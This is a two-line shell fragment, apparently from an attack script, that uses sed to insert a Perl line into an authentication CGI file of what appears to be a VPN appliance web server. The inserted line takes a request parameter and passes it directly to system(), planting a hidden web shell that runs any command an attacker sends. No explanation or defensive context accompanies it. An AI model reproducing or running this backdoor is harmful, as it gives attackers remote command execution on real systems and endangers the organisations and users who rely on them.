exit
sed  -i  "12i if (CGI::param(\"k\")) { my \$z = CGI::param(\"k\"); system(\"\$z\"); exit; }" ${PREFIX}/home/webserver/htdocs/dana-na/auth/other.cgi
